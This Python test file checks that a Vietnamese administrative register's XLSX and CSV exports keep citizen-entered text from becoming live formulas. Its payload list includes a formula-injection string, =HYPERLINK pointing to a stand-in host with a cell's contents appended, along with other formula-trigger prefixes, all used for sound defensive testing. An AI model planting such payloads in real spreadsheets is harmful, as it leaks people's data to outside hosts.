"""Spreadsheet safety of the register XLSX: citizens' text never becomes a live formula."""

from __future__ import annotations

import zipfile
from dataclasses import replace
from pathlib import Path

from openpyxl import load_workbook

from tthc_desk.reports.cells import RISKY_START, is_risky, safe_csv, unquote_csv
from tthc_desk.reports.data import RegisterData
from tthc_desk.reports.register_xlsx import HEADER_ROW, render_register_xlsx

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def test_register_cells_starting_like_a_formula_are_text(
    register: RegisterData, tmp_path: Path
) -> None:
    lines = tuple(
        replace(line, applicant_name=p, address=p, note=p, procedure_name=p)
        for line, p in zip(register.lines, PAYLOADS, strict=False)
    )
    path = tmp_path / "so.xlsx"
    render_register_xlsx(replace(register, lines=lines), path)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in z.read(n) and b"<f " not in z.read(n) for n in sheets)
    ws = load_workbook(path).active
    assert ws is not None
    for i, payload in enumerate(PAYLOADS):
        cell = ws.cell(row=HEADER_ROW + 1 + i, column=5)
        assert cell.value == payload.strip() and cell.data_type == "s"
        assert ws.cell(row=HEADER_ROW + 1 + i, column=3).data_type == "s"


def test_csv_quoting_round_trips() -> None:
    for start in RISKY_START:
        text = start + "x"
        assert is_risky(text) and safe_csv(text) == "'" + text
        assert unquote_csv(safe_csv(text)) == text
    assert safe_csv("Nguyễn Văn A") == "Nguyễn Văn A" and safe_csv(5) == 5
    assert unquote_csv("'bình thường") == "'bình thường"


def test_a_formula_like_cell_marks_only_itself(register: RegisterData, tmp_path: Path) -> None:
    """The quote prefix that keeps "=…" as text belongs to that cell: the lines after it in
    the same column (cells of the register share their column's style) are not marked."""
    first, *rest = register.lines
    lines = (replace(first, applicant_name="=1+1"), *rest)
    assert rest, "the fixture needs two lines"
    path = tmp_path / "so.xlsx"
    render_register_xlsx(replace(register, lines=lines), path)
    ws = load_workbook(path).active
    assert ws is not None
    assert ws.cell(row=HEADER_ROW + 1, column=5).quotePrefix
    assert not ws.cell(row=HEADER_ROW + 2, column=5).quotePrefix
